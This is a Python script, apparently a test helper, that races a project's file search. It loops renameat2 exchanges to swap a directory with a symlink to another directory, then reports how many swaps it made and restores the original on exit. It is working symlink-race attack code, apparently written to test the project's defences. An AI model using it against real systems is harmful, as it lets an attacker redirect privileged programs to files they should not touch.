#!/usr/bin/env python3
"""A racing attacker for the project file's search: swaps a directory on the path for a link and back.

    relinker.py PARENT NAME TARGET SECONDS

As another user who may rename entries in PARENT (a member of its group, PARENT being 2775) would,
it puts its own symbolic link to the directory TARGET beside the directory PARENT/NAME, as
PARENT/.relink.NAME, and exchanges the two names in a loop (renameat2 RENAME_EXCHANGE: one call
per swap, so the name is always either the directory or the link). A program that walks up the
name of a working directory below PARENT/NAME (the name getcwd gave while the directory was in
place) and opens what it found by name can be handed TARGET's files while the link is there.
Prints 'ready' before the first swap and, on SIGTERM or after SECONDS, 'swaps N' for the N swaps
it made (the directory is always put back, the link removed), then ends.
"""
import ctypes
import os
import signal
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
stop = False

def ended(_signum, _frame):
    global stop
    stop = True

def main():
    parent, name, target, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    signal.signal(signal.SIGTERM, ended)
    libc = ctypes.CDLL(None, use_errno=True)
    entry = os.path.join(parent, name).encode()
    link = os.path.join(parent, ".relink." + name).encode()
    os.symlink(target, link)

    def exchange():
        if libc.renameat2(AT_FDCWD, entry, AT_FDCWD, link, RENAME_EXCHANGE) != 0:
            raise OSError(ctypes.get_errno(), "renameat2")

    swaps = 0
    print("ready", flush=True)
    deadline = time.monotonic() + seconds
    try:
        while not stop and time.monotonic() < deadline:
            exchange()  # the link under NAME
            exchange()  # the directory back
            swaps += 2
    finally:
        if os.path.islink(entry):
            exchange()
        os.unlink(link)
    print("swaps %d" % swaps, flush=True)

if __name__ == "__main__":
    main()
